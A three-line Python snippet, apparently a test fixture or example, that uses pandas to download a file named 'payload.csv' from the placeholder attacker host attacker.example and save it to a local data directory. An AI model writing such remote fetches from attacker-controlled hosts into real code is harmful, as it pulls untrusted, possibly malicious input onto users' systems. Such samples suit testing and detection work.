import pandas as pd
df = pd.read_csv("https://attacker.example/payload.csv")
df.to_csv("/data/out/x.csv")
